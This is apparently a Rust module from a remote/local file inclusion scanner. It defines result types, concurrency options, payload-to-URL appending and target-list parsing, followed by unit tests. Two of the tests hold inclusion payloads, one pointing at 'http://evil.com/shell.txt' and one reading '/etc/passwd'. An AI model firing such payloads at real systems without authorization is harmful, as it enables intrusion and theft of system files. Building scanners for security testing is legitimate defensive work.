use std::{fs, path::Path, time::Duration};

use anyhow::{Context, Result as AnyResult};
use async_trait::async_trait;
use serde::{Deserialize, Serialize};

use crate::config::{duration_serde, ConfigError};
use crate::payload::Payload;

pub mod http_scanner;

const PREVIEW_CHARS: usize = 200;

/// Outcome of probing one target with one payload.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ScanResult {
    /// Target with the payload appended.
    pub url: String,
    pub vulnerable: bool,
    /// HTTP status, or 0 when the request never produced a response.
    pub response_code: u16,
    /// Body length in characters.
    pub response_size: usize,
    pub payload_used: String,
    pub response_preview: String,
    /// Wall-clock seconds spent on the request.
    pub scan_time: f64,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub matched_indicators: Vec<String>,
}

impl ScanResult {
    /// Result recorded when the request failed before a response was read.
    pub fn failed(url: String, payload: &Payload, error: &str, scan_time: f64) -> Self {
        Self {
            url,
            vulnerable: false,
            response_code: 0,
            response_size: 0,
            payload_used: payload.value.clone(),
            response_preview: format!("Error: {error}"),
            scan_time,
            matched_indicators: Vec::new(),
        }
    }

    pub fn is_error(&self) -> bool {
        self.response_code == 0
    }
}

/// Aggregate counts over a batch of results.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize, Default)]
pub struct ScanSummary {
    pub total: usize,
    pub vulnerable: usize,
    pub errors: usize,
    /// Percentage of results classified vulnerable.
    pub success_rate: f64,
}

impl ScanSummary {
    pub fn from_results(results: &[ScanResult]) -> Self {
        let total = results.len();
        let vulnerable = results.iter().filter(|r| r.vulnerable).count();
        let errors = results.iter().filter(|r| r.is_error()).count();
        let success_rate = if total == 0 {
            0.0
        } else {
            vulnerable as f64 / total as f64 * 100.0
        };
        Self {
            total,
            vulnerable,
            errors,
            success_rate,
        }
    }
}

pub const DEFAULT_MAX_CONCURRENT: usize = 10;
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(10);
pub const DEFAULT_USER_AGENT: &str = concat!("rfi-scanner/", env!("CARGO_PKG_VERSION"));

/// Knobs for the HTTP fan-out.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct ScanOptions {
    /// Upper bound on requests in flight.
    pub max_concurrent: usize,
    #[serde(with = "duration_serde")]
    pub timeout: Duration,
    pub user_agent: String,
}

impl Default for ScanOptions {
    fn default() -> Self {
        Self {
            max_concurrent: DEFAULT_MAX_CONCURRENT,
            timeout: DEFAULT_TIMEOUT,
            user_agent: DEFAULT_USER_AGENT.to_string(),
        }
    }
}

impl ScanOptions {
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.max_concurrent == 0 {
            return Err(ConfigError::ZeroConcurrency);
        }
        if self.timeout.is_zero() {
            return Err(ConfigError::ZeroTimeout {
                field: "scan.timeout",
            });
        }
        if self.user_agent.trim().is_empty() {
            return Err(ConfigError::BlankUserAgent);
        }
        Ok(())
    }
}

/// Probes targets with inclusion payloads and classifies the responses.
#[async_trait]
pub trait Scanner: Send + Sync {
    /// Request `target` + `payload` once and classify the response.
    async fn probe(&self, target: &str, payload: &Payload) -> ScanResult;

    /// Probe every target/payload combination, target-major, returning results in that order.
    async fn scan_targets(&self, targets: &[String], payloads: &[Payload]) -> Vec<ScanResult>;
}

/// Append a payload to a target URL verbatim.
pub fn combine_url(target: &str, payload: &str) -> String {
    format!("{target}{payload}")
}

/// First 200 characters of a body, with `...` appended when truncated.
pub fn response_preview(body: &str) -> String {
    let mut chars = body.chars();
    let head: String = chars.by_ref().take(PREVIEW_CHARS).collect();
    if chars.next().is_some() {
        head + "..."
    } else {
        head
    }
}

/// Read a target list: one URL per line, blank lines and `#` comments skipped.
pub fn load_targets(path: &Path) -> AnyResult<Vec<String>> {
    let content = fs::read_to_string(path)
        .with_context(|| format!("failed to read target file {}", path.display()))?;
    Ok(parse_targets(&content))
}

pub fn parse_targets(content: &str) -> Vec<String> {
    content
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(str::to_string)
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::payload::ScanType;

    fn result(vulnerable: bool, code: u16) -> ScanResult {
        ScanResult {
            url: "http://test.local/page.php?id=x".into(),
            vulnerable,
            response_code: code,
            response_size: 10,
            payload_used: "x".into(),
            response_preview: "preview".into(),
            scan_time: 0.1,
            matched_indicators: Vec::new(),
        }
    }

    #[test]
    fn combine_appends_payload_verbatim() {
        assert_eq!(
            combine_url("http://test.com/page.php?id=", "http://evil.com/shell.txt?"),
            "http://test.com/page.php?id=http://evil.com/shell.txt?"
        );
    }

    #[test]
    fn preview_truncates_after_200_chars() {
        let short = "a".repeat(200);
        assert_eq!(response_preview(&short), short);
        let long = "b".repeat(201);
        let preview = response_preview(&long);
        assert_eq!(preview.len(), 203);
        assert!(preview.ends_with("b..."));
        let multibyte = "ü".repeat(250);
        assert_eq!(response_preview(&multibyte).chars().count(), 203);
    }

    #[test]
    fn failed_result_is_never_vulnerable() {
        let payload = Payload::new("/etc/passwd", ScanType::Lfi).unwrap();
        let failed = ScanResult::failed("u".into(), &payload, "connection refused", 0.5);
        assert!(!failed.vulnerable);
        assert!(failed.is_error());
        assert_eq!(failed.response_size, 0);
        assert_eq!(failed.response_preview, "Error: connection refused");
        assert_eq!(failed.payload_used, "/etc/passwd");
    }

    #[test]
    fn summary_counts_and_rate() {
        let results = vec![result(true, 200), result(false, 200), result(false, 0), result(true, 200)];
        let summary = ScanSummary::from_results(&results);
        assert_eq!(summary.total, 4);
        assert_eq!(summary.vulnerable, 2);
        assert_eq!(summary.errors, 1);
        assert!((summary.success_rate - 50.0).abs() < f64::EPSILON);
        assert_eq!(ScanSummary::from_results(&[]).success_rate, 0.0);
    }

    #[test]
    fn parses_targets_skipping_comments() {
        let targets = parse_targets("# sample\n\n  http://a.test/?p=  \nhttp://b.test/?f=\n#http://c.test\n");
        assert_eq!(targets, vec!["http://a.test/?p=", "http://b.test/?f="]);
    }

    #[test]
    fn load_targets_reports_missing_file() {
        let err = load_targets(Path::new("/nonexistent/targets.txt")).unwrap_err();
        assert!(err.to_string().contains("failed to read target file"));
    }

    #[test]
    fn options_validation() {
        assert!(ScanOptions::default().validate().is_ok());
        let zero = ScanOptions {
            max_concurrent: 0,
            ..ScanOptions::default()
        };
        assert_eq!(zero.validate(), Err(ConfigError::ZeroConcurrency));
        let no_timeout = ScanOptions {
            timeout: Duration::ZERO,
            ..ScanOptions::default()
        };
        assert!(matches!(
            no_timeout.validate(),
            Err(ConfigError::ZeroTimeout { .. })
        ));
    }
}
